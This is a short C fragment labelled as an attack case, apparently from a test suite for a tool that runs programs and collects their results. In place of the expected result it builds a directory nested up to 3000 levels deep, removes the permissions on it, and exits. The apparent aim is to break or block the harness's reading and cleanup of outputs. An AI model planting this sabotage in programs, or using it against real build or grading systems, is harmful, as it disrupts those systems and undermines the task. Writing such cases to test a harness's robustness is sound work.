/* in the place of its result there are folders, deep and closed */
ATTACK
{
    const char *result = result_of(argc, argv);
    if (result != NULL && mkdir(result, 0700) == 0 && chdir(result) == 0) {
        for (int i = 0; i < 3000; i++) {
            if (mkdir("d", 0700) != 0 || chdir("d") != 0) {
                break;
            }
        }
        chmod(".", 0);
        chmod(result, 0);
        _exit(0);
    }
}
